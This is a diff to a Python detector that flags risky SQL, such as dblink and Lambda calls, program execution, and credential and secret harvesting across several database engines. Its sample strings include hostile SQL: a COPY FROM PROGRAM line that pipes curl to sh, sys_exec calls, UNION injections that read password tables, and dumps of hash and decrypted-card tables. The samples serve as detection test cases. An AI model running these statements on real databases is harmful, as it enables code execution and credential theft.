@@ -124,6 +124,16 @@ _SQLSERVER_PROCEDURES = _words(
     " sp_special_columns sp_stored_procedures sp_table_privileges sp_column_privileges sp_tables sp_pkeys sp_fkeys"
 )
 
+# dblink: a connection string without a host is a loopback, a common way to run autonomous transactions; a name is a
+# connection or a server that was set up before.
+_DBLINKS = _words("dblink dblink_connect dblink_connect_u dblink_open dblink_send_query")
+_NOT_ITSELF = r"\A(?![\s\S]{0,1900}\bdbname\b)"
+_LINK_NAME = r"'[\w$-]{1,63}'\s{0,9}"
+_LINK_BY_NAME = (
+    rf"\bdblink(?:(?:_open|_send_query)?\"?\s{{0,9}}\(\s{{0,9}}{_LINK_NAME},"
+    rf"|_connect(?:_u)?\"?\s{{0,9}}\(\s{{0,9}}(?:{_LINK_NAME},\s{{0,9}})?{_LINK_NAME}\))"
+)
+
 _NETWORK_CALL = Signal(
     "network-call",
     "The database connects to another host, or a link or network permission for this is created.",
@@ -132,12 +142,8 @@ _NETWORK_CALL = Signal(
             _PG,
             *_words("http_get http_post http_put http_patch http_delete http_head"),
         ),
-        # A connection string without a host is a loopback: a common way to run autonomous transactions.
-        _calls(
-            _PG,
-            *_words("dblink dblink_connect dblink_connect_u dblink_exec dblink_open dblink_send_query"),
-            raw=r"\A(?![\s\S]{0,1900}\bdbname\b)|\bhost|://",
-        ),
+        _calls(_PG, *_DBLINKS, raw=rf"{_NOT_ITSELF}(?![\s\S]{{0,1900}}?{_LINK_BY_NAME})|\bhost|://"),
+        _calls(_PG, "dblink_exec", raw=rf"{_NOT_ITSELF}|\bhost|://"),
         Pattern(
             _PG,
             ("server",),
@@ -262,6 +268,8 @@ _NETWORK_CALL = Signal(
             "SELECT * FROM dblink_settings",
             "CREATE EXTENSION postgres_fdw",
             "SELECT dblink_connect('own', 'dbname=' || current_database())",
+            "SELECT * FROM dblink('reporting', 'select 1') AS t(a int)",
+            "SELECT dblink_connect('c', 'reporting_server')",
             "CREATE SERVER logs FOREIGN DATA WRAPPER log_fdw",
         ),
         "mysql": (
@@ -293,6 +301,11 @@ _LINKED_READ = Signal(
     "linked-read",
     "Objects of another server are read through an existing link.",
     (
+        _calls(
+            _PG,
+            *_DBLINKS,
+            raw=rf"\A(?![\s\S]{{0,1900}}(?:\bdbname\b|\bhost|://))[\s\S]{{0,1900}}?{_LINK_BY_NAME}",
+        ),
         Pattern(_ORACLE, ("from", "join"), r"(?:\bfrom|\bjoin|,) ?[\w$#.]{1,130}@[\w$#]"),
         Pattern(
             _SQLSERVER,
@@ -302,6 +315,10 @@ _LINKED_READ = Signal(
         Pattern(_SQLSERVER, ("openquery",), r"\bopenquery\("),
     ),
     samples={
+        "postgresql": (
+            "SELECT * FROM dblink('reporting', 'select id from orders') AS t(id int)",
+            "SELECT public.dblink_connect('c', 'reporting_server')",
+        ),
         "oracle": (
             "SELECT * FROM orders@dwh.example.com WHERE id = :1",
             "SELECT a.id FROM t a JOIN sales.orders@dwh b ON a.id = b.id",
@@ -312,6 +329,10 @@ _LINKED_READ = Signal(
         ),
     },
     near_misses={
+        "postgresql": (
+            "SELECT * FROM dblink('host=203.0.113.9 dbname=l', 'select 1') AS t(a int)",
+            "SELECT dblink_connect('own', 'dbname=' || current_database())",
+        ),
         "oracle": ("SELECT id FROM orders WHERE mail = 'x@example.com'", "SELECT id FROM sales.orders"),
         "sqlserver": (
             "SELECT * FROM sales.dbo.orders WHERE id = @p0",
@@ -437,12 +458,10 @@ _SERVER_FILE = Signal(
 
 _PROGRAM_EXECUTION = Signal(
     "program-execution",
-    "A program, script or Lambda function is run outside the database, or its execution is enabled.",
+    "A program or script is run outside the database, or its execution is enabled. Calls of Lambda have their own signal.",
     (
         Pattern(_PG, ("program",), r"\b(?:from|to) program ?[?$]"),
-        Pattern(_PG, ("aws_lambda",), r"(?<!function )(?<![\w$.])aws_lambda\.invoke\("),
-        _calls(_PG, "invoke", raw=r"arn:aws[a-z-]{0,20}:lambda:"),
-        _calls(_PG, "create_lambda_function_arn", "sys_exec", "sys_eval", "sys_bineval"),
+        _calls(_PG, "sys_exec", "sys_eval", "sys_bineval"),
         Pattern(
             _PG,
             ("aws_lambda",),
@@ -458,9 +477,8 @@ _PROGRAM_EXECUTION = Signal(
         ),
         Pattern(_PG, _UNTRUSTED, rf"(?:\A|;)do\b[^;]{{0,1900}}\blanguage {_any(*_UNTRUSTED)}\b"),
         _calls(_PG, "lo_from_bytea", "lo_put", "lowrite", raw=r"7f454c46"),
-        _calls(_MYSQL, *_words("lambda_sync lambda_async sys_exec sys_eval sys_bineval")),
+        _calls(_MYSQL, *_words("sys_exec sys_eval sys_bineval")),
         Pattern(_MYSQL, ("dumpfile",), r"\binto dumpfile\b", r"0x7f454c46|0x4d5a|/plugin/|\.(?:so|dll)['\"]"),
-        Pattern(_MYSQL, ("lambda_async",), r"\bcall mysql\.lambda_async\b"),
         Pattern(
             _ORACLE,
             ("dbms_scheduler",),
@@ -508,9 +526,6 @@ _PROGRAM_EXECUTION = Signal(
         "postgresql": (
             "COPY x FROM PROGRAM 'sh -c ''curl http://203.0.113.9/a|sh'''",
             "copy (select 1) to/**/program $x$id$x$",
-            "SELECT * FROM aws_lambda.invoke($1, $2::json, 'Event')",
-            "SELECT invoke('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
-            "SELECT \"aws_lambda\" . \"invoke\"('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
             "SET search_path TO aws_lambda",
             "SET search_path = aws_lambda, aws_commons, public",
             "ALTER SYSTEM SET archive_command = 'sh /tmp/a'",
@@ -518,8 +533,6 @@ _PROGRAM_EXECUTION = Signal(
             "SELECT lo_from_bytea(43213, decode('7f454c4602010100', 'hex'))",
         ),
         "mysql": (
-            "SELECT mysql.lambda_sync('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
-            "CALL mysql.lambda_async('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
             "SELECT sys_exec('id > /tmp/a')",
             "SELECT sys_eval('id')",
             "SELECT 0x7f454c46 INTO DUMPFILE '/rdsdbbin/plugin/a.so'",
@@ -554,11 +567,11 @@ _PROGRAM_EXECUTION = Signal(
             "GRANT EXECUTE ON FUNCTION aws_lambda.invoke(text, json) TO app",
             "INSERT INTO tickets (body) VALUES ('COPY t FROM PROGRAM ''id'' is CVE-2019-9193')",
             "DO $$ BEGIN PERFORM 1; END $$ LANGUAGE plpgsql",
-            "SELECT invoke(4)",
+            "SELECT * FROM aws_lambda.invoke('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
             "SET search_path = app, public",
         ),
         "mysql": (
-            "GRANT AWS_LAMBDA_ACCESS TO 'app'@'%'",
+            "SELECT mysql.lambda_sync('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
             "SELECT name FROM sys_exec",
             "SELECT picture FROM t WHERE id = 4 INTO DUMPFILE '/tmp/a.png'",
         ),
@@ -578,6 +591,38 @@ _PROGRAM_EXECUTION = Signal(
             "EXEC sp_help 'xp_cmdshell'",
             "EXEC msdb.dbo.sp_add_jobstep @job_name=N'j', @subsystem=N'TSQL', @command=N'select 1'",
         ),
+    },
+)
+
+_LAMBDA_CALL = Signal(
+    "lambda-call",
+    "A Lambda function is called, whether its arguments are bound or not.",
+    (
+        Pattern(_PG, ("aws_lambda",), r"(?<!function )(?<![\w$.])aws_lambda\.invoke\("),
+        _calls(_PG, "invoke", raw=r"arn:aws[a-z-]{0,20}:lambda:"),
+        _calls(_PG, "create_lambda_function_arn"),
+        _calls(_MYSQL, "lambda_sync", "lambda_async"),
+        Pattern(_MYSQL, ("lambda_async",), r"\bcall mysql\.lambda_async\b"),
+    ),
+    samples={
+        "postgresql": (
+            "SELECT * FROM aws_lambda.invoke($1, $2::json, 'Event')",
+            "SELECT invoke('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
+            "SELECT \"aws_lambda\" . \"invoke\"('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
+        ),
+        "mysql": (
+            "SELECT mysql.lambda_sync('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
+            "CALL mysql.lambda_async('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
+            "SELECT lambda_async(?, ?)",
+        ),
+    },
+    near_misses={
+        "postgresql": (
+            "GRANT EXECUTE ON FUNCTION aws_lambda.invoke(text, json) TO app",
+            "SELECT invoke(4)",
+            "CREATE EXTENSION aws_lambda",
+        ),
+        "mysql": ("GRANT AWS_LAMBDA_ACCESS TO 'app'@'%'", "SELECT lambda_sync_id FROM jobs"),
     },
 )
 
@@ -895,6 +940,12 @@ _ROW_AGGREGATION = Signal(
             rf"information_schema\.(?:tables|columns|schemata)\b{_NOT_GROUPED}",
         ),
         _calls(_PG, *_words("query_to_xml query_to_xml_and_xmlschema"), raw=_NOT_A_COUNT),
+        # Rows put aside in a large object.
+        Pattern(
+            _PG,
+            _words("lo_from_bytea lo_put lowrite"),
+            rf"{_CALLED}(?:lo_from_bytea|lo_put|lowrite)\([^;]{{0,400}}?(?:\bselect\b|\w_agg\(|_to_xml\()",
+        ),
         _calls(
             _PG,
             *_words("table_to_xml table_to_xml_and_xmlschema schema_to_xml schema_to_xml_and_xmlschema"),
@@ -924,6 +975,8 @@ _ROW_AGGREGATION = Signal(
             "SELECT json_agg(x) FROM (SELECT * FROM customers) x",
             "SELECT query_to_xml('select * from customers', true, false, '')",
             "SELECT database_to_xml(true, true, '')",
+            "SELECT lo_from_bytea(0, convert_to((SELECT string_agg(c::text, ';') FROM customers c WHERE a = 4), 'utf8'))",
+            "SELECT lo_put(43213, 0, (SELECT doc FROM files WHERE id = 4))",
             "SELECT a FROM t WHERE id = 4 UNION ALL SELECT string_agg(email, ',') FROM customers WHERE id < 90",
         ),
         "mysql": (
@@ -947,6 +1000,7 @@ _ROW_AGGREGATION = Signal(
     },
     near_misses={
         "postgresql": (
+            "SELECT lo_put($1, $2, $3)",
             "SELECT o.id, (SELECT json_agg(i) FROM items i WHERE i.order_id = o.id) FROM orders o",
             "SELECT team, string_agg(name, ', ') FROM people GROUP BY team",
             "WITH pgrst_source AS (SELECT t.* FROM t LIMIT $1 OFFSET $2) SELECT coalesce(json_agg(_postgrest_t), '[]')"
@@ -1066,6 +1120,43 @@ _CATALOG_READ = Signal(
     },
 )
 
+_SECRET_SOUGHT = (
+    r"(?<!not like )(?<!not like n)(?<!not ilike )(?<!!~ )(?<!!~\* )(?<!<> )(?<!!= )"
+    r"'[^']{0,80}(?:passw|passphrase|\bpwd|[%_|(.]pwd|secret|token|identified|api[ _%.-]{0,3}key|credential|decrypt)"
+    r"[^']{0,80}'"
+)
+# Where the statements of others can be read, and the source of routines and jobs.
+_SENT_STATEMENTS = {
+    "postgresql": "pg_stat_activity pg_stat_statements pg_stat_get_activity",
+    "mysql": "events_statements_current events_statements_history events_statements_history_long processlist"
+    " events_statements_summary_by_digest general_log slow_log prepared_statements_instances",
+    "oracle": "v$sql v$sqlarea v$sqltext v$sqltext_with_newlines v$sqlstats v$sql_bind_capture gv$sql gv$sqlarea"
+    " gv$sqltext gv$sqlstats gv$sql_bind_capture v_$sql dba_hist_sqltext dba_hist_sqlbind unified_audit_trail"
+    " dba_audit_trail dba_common_audit_trail",
+    "sqlserver": "dm_exec_sql_text dm_exec_query_plan dm_exec_input_buffer query_store_query_text sysprocesses",
+}
+_SOURCES = {
+    "postgresql": "routines pg_proc views pg_views pg_matviews job job_run_details triggers",
+    "mysql": "routines views events triggers proc event",
+    "oracle": "all_source dba_source user_source cdb_source source$ all_views dba_views user_views dba_scheduler_jobs"
+    " all_scheduler_jobs dba_jobs all_triggers dba_triggers",
+    "sqlserver": "sql_modules all_sql_modules system_sql_modules syscomments routines sysjobsteps sysjobstepslogs views",
+}
+_SOURCE = (
+    r"\b(?:routine_definition|prosrc|probin|view_definition|definition|command|event_definition|action_statement"
+    r"|body|body_utf8|text|text_vc|source|job_action|what|trigger_body)"
+)
+_CREDENTIAL_TABLE = (
+    r"(?:[\w$#]{1,128}\.){0,3}[\w$#]{0,80}?"
+    r"(?:(?:api|access|session|secret)_?keys?|credentials?|passwords?|secrets?|tokens?|oauth_\w{1,60})(?![\w$#.(@])"
+)
+_WHOLE = (
+    r"(?: as)?(?: (?!(?:where|join|inner|left|group|limit|order|natural|cross|for|union|into|offset|fetch|with)\b)[\w$#]{1,60})?"
+    rf" ?(?:with ?\(nolock\))? ?{_ALWAYS_TRUE}(?:order by [^;()]{{1,130}}?)? ?(?:(?:limit|offset|fetch) [^;()]{{1,60}})?"
+    r"(?=\Z|;|\)| ?union\b| ?into\b| ?for (?:xml|json)\b)"
+)
+_DECRYPT_BY = "decryptbykey decryptbykeyautocert decryptbycert decryptbyasymkey decryptbypassphrase"
+
 _CREDENTIAL_READ = Signal(
     "credential-read",
     "Password hashes, stored passwords or keys of the engine are read, tested or exported.",
@@ -1140,6 +1231,77 @@ _CREDENTIAL_READ = Signal(
             r"\bbackup (?:certificate|master key|service master key|asymmetric key|symmetric key)\b",
         ),
         Pattern(_SQLSERVER, ("certprivatekey",), r"\bcertprivatekey\("),
+        *(
+            Pattern(
+                (engine,),
+                _words(views),
+                rf"{_READ_FROM}(?:[\w$#]{{1,128}}\.){{0,2}}{_any(*_words(views))}(?![\w$#.(])"
+                rf"|\b(?:cross|outer) apply (?:sys\.)?{_any(*_words(views))}\(",
+                _SECRET_SOUGHT,
+            )
+            for engine, views in _SENT_STATEMENTS.items()
+        ),
+        *(
+            Pattern(
+                (engine,),
+                _words(views),
+                rf"{_READ_FROM}(?:[\w$#]{{1,128}}\.){{0,2}}{_any(*_words(views))}(?![\w$#.(])[^;]{{0,600}}?"
+                rf"(?:{_SOURCE}\)? ?(?:i?like\b|regexp\b|rlike\b|similar to\b|~|=)"
+                rf"|\b(?:instr|charindex|position|strpos|patindex|regexp_like|contains)\([^;]{{0,80}}?{_SOURCE})",
+                _SECRET_SOUGHT,
+            )
+            for engine, views in _SOURCES.items()
+        ),
+        Pattern(
+            _PG,
+            ("umoptions", "srvoptions"),
+            r"\Aselect (?=[^;]{0,400}\bumoptions\b)[^;]{0,400}\bsrvoptions\b[^;]{0,200}?\bfrom\b"
+            r"|\Aselect (?:[\w$.]{1,60},){0,2}(?:\w{1,20}\.)?srvoptions from (?:pg_catalog\.)?pg_foreign_server\b",
+        ),
+        Pattern(_PG, ("pg_foreign_server",), r"\bselect\*from (?:pg_catalog\.)?pg_foreign_server\b"),
+        Pattern(
+            _ORACLE,
+            _words("dba_db_links all_db_links user_db_links cdb_db_links"),
+            r"\bpasswordx?\b[^;]{0,400}?\bfrom (?:sys\.)?(?:dba|all|user|cdb)_db_links\b",
+        ),
+        Pattern(
+            _ORACLE,
+            _words("dba_credentials cdb_credentials dba_scheduler_credentials cdb_scheduler_credentials"),
+            r"(?:\bfrom|\bjoin|,) ?(?:sys\.)?(?:dba|cdb)_(?:scheduler_)?credentials\b",
+        ),
+        Pattern(
+            _SQLSERVER,
+            _words("credentials sysproxies database_scoped_credentials linked_logins sysremotelogins"),
+            rf"{_READ_FROM}(?:[\w$#]{{0,128}}\.)?(?:sys\.(?:credentials|database_scoped_credentials|linked_logins)"
+            rf"|(?:dbo)?\.?sysproxies|(?:sys|dbo)?\.?sysremotelogins)(?![\w$#.(])",
+        ),
+        # Values are decrypted for all rows, or for as many as are asked for.
+        Pattern(
+            _SQLSERVER,
+            _words(_DECRYPT_BY),
+            rf"\bselect (?:distinct )?top\b[^;]{{0,900}}?\b(?:{_DECRYPT_BY.replace(' ', '|')})\("
+            rf"|\b(?:{_DECRYPT_BY.replace(' ', '|')})\((?:(?!\b(?:where|select)\b)[^;]){{1,900}}+(?=\Z|;)",
+        ),
+        *(
+            Pattern(
+                engines,
+                _words(functions),
+                rf"\b(?:{functions.replace(' ', '|')})\((?:(?!\b(?:from|select|where)\b)[^;]){{1,900}}+\bfrom ?"
+                r"(?:(?!\b(?:where|limit|fetch|dual|select|group)\b)[^;()?$]){1,300}+(?=\Z|;)",
+            )
+            for engines, functions in (
+                (_PG, "pgp_sym_decrypt pgp_pub_decrypt pgp_sym_decrypt_bytea decrypt decrypt_iv"),
+                (_MYSQL, "aes_decrypt des_decrypt"),
+            )
+        ),
+        # An application's credentials as a whole.
+        Pattern(
+            ALL,
+            ("from",),
+            rf"\bselect (?!count\(|max\(|min\(|sum\(|avg\(|[?01] ?from\b|top[ (]{{0,2}}0)"
+            rf"(?:(?!\bselect\b|\bfrom\b)[^;]){{0,600}}+\bfrom (?:only )?{_CREDENTIAL_TABLE}{_WHOLE}"
+            rf"|\bselect\*(?:into [\w$#.]{{1,128}} )?from (?:only )?{_CREDENTIAL_TABLE}{_WHOLE}",
+        ),
         # An injected UNION that reads an application's passwords behind a query that does not.
         Pattern(
             ALL,
@@ -1150,6 +1312,14 @@ _CREDENTIAL_READ = Signal(
     ),
     samples={
         "postgresql": (
+            "SELECT pid, query FROM pg_stat_activity WHERE query ILIKE '%password%'",
+            "SELECT query FROM pg_stat_statements WHERE query ~* 'secret|token'",
+            "SELECT proname, prosrc FROM pg_proc WHERE prosrc ILIKE '%api_key%'",
+            "SELECT srvname, srvoptions FROM pg_foreign_server",
+            "SELECT s.srvname, s.srvoptions, m.umoptions FROM pg_foreign_server s JOIN pg_user_mapping m ON m.umserver = s.oid",
+            "SELECT * FROM public.api_keys",
+            "SELECT user_id, token FROM oauth_access_tokens WHERE true ORDER BY id LIMIT 1000",
+            "SELECT id, pgp_sym_decrypt(card, 'k') FROM cards",
             "SELECT rolname, rolpassword FROM pg_authid",
             "SELECT * FROM pg_catalog.pg_shadow",
             "COPY pg_shadow TO STDOUT",
@@ -1157,6 +1327,11 @@ _CREDENTIAL_READ = Signal(
             "SELECT a FROM t WHERE id = 4 UNION SELECT login || password FROM users",
         ),
         "mysql": (
+            "SELECT sql_text FROM performance_schema.events_statements_history WHERE sql_text LIKE '%IDENTIFIED%'",
+            "SELECT info FROM information_schema.processlist WHERE info LIKE '%passw%'",
+            "SELECT routine_name FROM information_schema.routines WHERE routine_definition LIKE '%AES_DECRYPT%'",
+            "SELECT * FROM `customer_api_keys`",
+            "SELECT id, AES_DECRYPT(card, 'k') FROM cards",
             "SELECT user, authentication_string FROM `user`",
             "SELECT * FROM mysql.user",
             "TABLE mysql.user",
@@ -1165,6 +1340,11 @@ _CREDENTIAL_READ = Signal(
             "SELECT a FROM t WHERE id = -4 UNION ALL SELECT NULL,CONCAT(user_login,0x3a,user_pass) FROM wp_users#",
         ),
         "oracle": (
+            "SELECT sql_text FROM v$sql WHERE UPPER(sql_text) LIKE '%IDENTIFIED BY%'",
+            "SELECT name, line, text FROM all_source WHERE LOWER(text) LIKE '%password%'",
+            "SELECT name, value_string FROM v$sql_bind_capture WHERE LOWER(name) LIKE '%token%'",
+            "SELECT owner, db_link, password FROM dba_db_links",
+            "SELECT * FROM shop.payment_tokens",
             "SELECT name, password, spare4 FROM sys.user$",
             "SELECT username, password FROM dba_users",
             "SELECT * FROM sys.link$",
@@ -1172,6 +1352,16 @@ _CREDENTIAL_READ = Signal(
             "SELECT a FROM t WHERE id = 4 UNION ALL SELECT password FROM app.users",
         ),
         "sqlserver": (
+            "SELECT t.text FROM sys.dm_exec_query_stats s CROSS APPLY sys.dm_exec_sql_text(s.h) t WHERE t.text LIKE '%PASSWORD%'",
+            "SELECT query_sql_text FROM sys.query_store_query_text WHERE query_sql_text LIKE N'%secret%'",
+            "SELECT OBJECT_NAME(object_id) FROM sys.sql_modules WHERE definition LIKE '%DecryptByKey%'",
+            "SELECT step_name, command FROM msdb.dbo.sysjobsteps WHERE command LIKE '%pwd=%' OR command LIKE '%password%'",
+            "SELECT name, credential_identity FROM sys.credentials",
+            "SELECT * FROM msdb..sysproxies",
+            "SELECT remote_name FROM sys.linked_logins",
+            "SELECT TOP 5000 Id, CONVERT(varchar(99), DecryptByKey(Card)) FROM dbo.Cards WHERE Id > 4",
+            "OPEN SYMMETRIC KEY k DECRYPTION BY CERTIFICATE c; SELECT Id, DecryptByKey(Card) FROM dbo.Cards",
+            "SELECT * FROM dbo.ApiKeys WITH (NOLOCK)",
             "SELECT name, password_hash FROM sys.sql_logins",
             "SELECT * FROM master.sys.sql_logins",
             "SELECT name FROM sys.sql_logins WHERE PWDCOMPARE('x', password_hash) = 1",
@@ -1183,6 +1373,14 @@ _CREDENTIAL_READ = Signal(
     },
     near_misses={
         "postgresql": (
+            "SELECT pid, query FROM pg_stat_activity WHERE query NOT ILIKE '%password%'",
+            "SELECT query FROM pg_stat_statements WHERE query ILIKE '%orders%'",
+            "SELECT prosrc FROM pg_proc WHERE proname = 'verify_token'",
+            "SELECT * FROM api_keys WHERE key_hash = $1",
+            "SELECT count(*) FROM tokens",
+            "DELETE FROM session_keys",
+            "SELECT pgp_sym_decrypt(email, $1) FROM users WHERE id = $2",
+            "SELECT * FROM api_keys k JOIN users u ON u.id = k.user_id WHERE u.id = $1",
             "SELECT rolname, rolsuper, rolvaliduntil FROM pg_roles",
             "REVOKE SELECT ON TABLE pg_authid FROM app",
             "SELECT u.umid, umoptions FROM pg_user_mappings u LEFT JOIN pg_foreign_server fs ON fs.oid = u.srvid",
@@ -1190,18 +1388,31 @@ _CREDENTIAL_READ = Signal(
             "SELECT id, password FROM admins WHERE login = $1 UNION SELECT id, password FROM users WHERE login = $1",
         ),
         "mysql": (
+            "SELECT info FROM information_schema.processlist WHERE time > 60",
+            "SELECT routine_name FROM information_schema.routines WHERE routine_name LIKE '%token%'",
+            "SELECT * FROM api_tokens WHERE user_id = 4",
+            "SELECT AES_DECRYPT(card, 'k') FROM cards WHERE id = 4",
             "SELECT user, host FROM mysql.user",
             "SELECT COUNT(*) FROM mysql.user",
             "SELECT id, password FROM users WHERE email = 'a@example.com'",
             "SELECT user, host, plugin, password_expired FROM mysql.user",
         ),
         "oracle": (
+            "SELECT sql_text FROM v$sql WHERE sql_id = :1",
+            "SELECT text FROM all_source WHERE name = 'PKG_TOKEN' ORDER BY line",
+            "SELECT owner, db_link, host FROM dba_db_links",
+            "SELECT * FROM payment_tokens WHERE id = :1",
             "SELECT username, account_status, expiry_date FROM dba_users",
             "SELECT name, ctime, ptime FROM sys.user$",
             "SELECT dbms_metadata.get_ddl('TABLE', 'ORDERS') FROM dual",
             "SELECT id, password FROM app_users WHERE login = :1",
         ),
         "sqlserver": (
+            "SELECT t.text FROM sys.dm_exec_query_stats s CROSS APPLY sys.dm_exec_sql_text(s.h) t WHERE t.text LIKE '%Orders%'",
+            "SELECT definition FROM sys.sql_modules WHERE object_id = OBJECT_ID('dbo.ResetPassword')",
+            "SELECT DecryptByKey(Card) FROM dbo.Cards WHERE Id = @p0",
+            "SELECT * FROM dbo.Credentials WHERE UserId = @p0",
+            "SELECT DecryptByKey(Card) FROM dbo.Cards WHERE CustomerId = 4",
             "SELECT name, is_policy_checked FROM sys.sql_logins",
             "SELECT id, password_hash FROM dbo.users WHERE email = @p0",
             "SELECT name, type_desc FROM sys.server_principals",
@@ -1389,6 +1600,7 @@ ACCESS: tuple[Signal, ...] = (
     _LINKED_READ,
     _SERVER_FILE,
     _PROGRAM_EXECUTION,
+    _LAMBDA_CALL,
     _EXPORT,
     _WHOLE_TABLE_EXPORT,
     _IMPORT,
